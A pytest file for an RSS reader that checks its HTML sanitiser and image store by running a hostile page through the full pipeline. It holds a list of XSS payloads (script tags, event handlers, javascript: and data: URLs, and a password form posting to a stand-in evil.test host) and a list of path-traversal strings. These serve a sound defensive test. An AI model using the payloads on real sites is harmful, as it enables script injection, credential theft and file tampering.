"""Hostile page content, through the whole pipeline into the store.

The sanitiser's unit tests (tests/parse/test_sanitize.py) check each rule; here a page full of
active content is fetched, extracted and stored, and the stored row is what is checked: what
the reading view will render. Images are blobs keyed by their content hash, so no URL can
name, place or overwrite anything on disk.
"""

from __future__ import annotations

import hashlib
import html
import sqlite3
from pathlib import Path
from urllib.parse import urlsplit

import lxml.html
from localsite import FaultServer, Page, article_html, paragraphs, png, respond, rss

from reader.library import Library
from reader.parse.sanitize import KEEP
from reader.store.packing import unpack

PIECES = """
<script>document.write('SCRIPTED')</script>
<span onclick="alert(1)" onmouseover="alert(2)" style="background:url(http://evil.test/bg.png)">
点击这里</span>
<a href="javascript:alert(3)">javascript链接</a>
<a href="JaVaScRiPt&#58;alert(4)">编码链接</a>
<a href=" java&#x09;script:alert(5)">空白链接</a>
<a href="vbscript:msgbox(6)">vbscript链接</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">data链接</a>
<a href="file:///etc/passwd">本地文件</a>
<a href="http://safe.test/ok" onfocus="alert(8)">正常链接</a>
<iframe src="http://evil.test/frame"></iframe>
<object data="http://evil.test/x.swf"><param name="movie" value="x.swf"></object>
<embed src="http://evil.test/x.swf">
<form action="http://evil.test/steal"><input name="password"><button>登录</button></form>
<style>body { background: url(http://evil.test/css.png) } .x { behavior: url(x.htc) }</style>
<link rel="stylesheet" href="http://evil.test/evil.css">
<svg onload="alert(9)"><script>alert(10)</script></svg>
<math><mtext><script>alert(11)</script></mtext></math>
<img src="x" onerror="alert(12)">
<img src="javascript:alert(13)">
<img src="data:image/png;base64,iVBORw0KGgo=">
<img src="file:///etc/passwd">
<base href="http://127.0.0.1:9/">
<meta http-equiv="refresh" content="0;url=http://evil.test/">
<div style="width: expression(alert(14))">表达式</div>
<a href="http://safe.test/x" style="color:red">样式链接</a>
""".strip().splitlines()
# Each piece inside a paragraph of real text, so the body extractor keeps it and only the
# sanitiser stands between it and the store.
FILLER = "市民在图书馆参加志愿者活动,社区交通和公园规划工程持续推进。" * 3
HOSTILE = "\n".join(f"<p>{FILLER}{piece}{FILLER}</p>" for piece in PIECES)

# Tags and attributes a stored body may hold: the sanitiser's allow-list, nothing else.
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "img": {"src", "alt", "title", "width", "height"},
                      "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}, "ol": {"start"}}


def assert_inert(body: str, url: str) -> None:
    """The stored html, parsed as the reading view would: only allow-listed, http(s) content."""
    holder = lxml.html.fragment_fromstring(body, create_parent="div")
    for element in holder.iterdescendants():
        assert isinstance(element.tag, str), f"comment or PI kept in {url}"
        assert element.tag in KEEP, f"<{element.tag}> kept in {url}"
        extra = set(element.attrib) - ALLOWED_ATTRIBUTES.get(element.tag, set())
        assert not extra, f"<{element.tag} {extra}> kept in {url}"
        for name in ("href", "src"):
            if name in element.attrib:
                scheme = urlsplit(element.attrib[name]).scheme
                assert scheme in ("http", "https"), f"{name}={element.attrib[name]} in {url}"
    for marker in ("url(", "expression(", "SCRIPTED", "<!--"):
        assert marker not in body, f"{marker} in {url}"


def test_active_content_never_reaches_the_store(library: Library, server: FaultServer) -> None:
    page = Page(url=server.url("/hostile.html"), title="一篇满是脚本的文章",
                paragraphs=paragraphs(3), extra=HOSTILE)
    server.serve("/hostile.html", article_html(page).encode())
    # A second entry whose page is gone: its stored body is the feed's own (hostile) summary.
    summary_url = server.url("/gone.html")
    feed = rss([(page.url, page.title)]).replace(
        b"</channel>", b"<item><title>summary</title><link>" + summary_url.encode()
        + b"</link><description>" + html.escape(
            "<p>" + "摘要内容," * 30 + "</p>" + HOSTILE).encode() + b"</description></item>"
        b"</channel>")
    library.add_source(server.serve("/feed.xml", feed, content_type="application/rss+xml"))
    result = library.update()[0]
    assert result.new == 2, result

    db = sqlite3.connect(library.store.path)
    rows = db.execute("SELECT url, body FROM articles").fetchall()
    assert {r[0] for r in rows} == {page.url, summary_url}
    for url, packed in rows:
        text, body = unpack(packed)
        assert_inert(body, url)
        assert "SCRIPTED" not in text and "alert(1" not in text
        assert "http://safe.test/ok" in body  # the one honest link is kept
    # What was safe is kept: the article text and the plain link.
    stored = library.article(library.article_id(page.url) or 0).article
    assert page.paragraphs[0][:30] in stored.text
    assert "正常链接" in stored.text


TRAVERSALS = [
    "/img/../../../../../../tmp/evil.png",
    "/img/..%2F..%2F..%2F..%2Fevil.png",
    "/img/%2e%2e/%2e%2e/%2e%2e/library.sqlite",
    "/img/....//....//evil.png",
    "/img/C:%5CWindows%5Cevil.png",
    "/img/%00evil.png",
    "/img/" + "a" * 3000 + ".png",
]


def test_image_urls_cannot_steer_anything_on_disk(library: Library, server: FaultServer,
                                                  tmp_path: Path) -> None:
    server.route("/img/*", lambda c, path: respond(
        c, png(8, 8, sum(path.encode())), content_type="image/png"))
    images = tuple((server.url(p), f"说明{i}") for i, p in enumerate(TRAVERSALS))
    page = Page(url=server.url("/pics.html"), title="路径穿越图片", paragraphs=paragraphs(9),
                images=images)
    server.serve("/pics.html", article_html(page).encode())
    library.add_source(server.serve("/feed.xml", rss([(page.url, page.title)]),
                                    content_type="application/rss+xml"))
    before = sorted(p for p in tmp_path.rglob("*"))
    result = library.update()[0]
    assert result.new == 1 and result.failed == 0, result

    # Nothing new on disk but the database's own files, wherever the URLs pointed.
    after = sorted(p for p in tmp_path.rglob("*"))
    new = {p.name for p in set(after) - set(before)}
    assert new <= {"library.sqlite-wal", "library.sqlite-shm"}, new
    assert not list(Path("/tmp").glob("evil.png"))

    db = sqlite3.connect(library.store.path)
    stored = db.execute("SELECT hash, data FROM images").fetchall()
    assert stored, "no image was stored"
    for digest, data in stored:
        assert digest == hashlib.sha256(data).hexdigest()  # the key is the content, not a name
    article = library.article(library.article_id(page.url) or 0).article
    for image in article.images:
        data = library.image(image.url)
        if data is not None:
            assert hashlib.sha256(data).hexdigest() in {d for d, _ in stored}
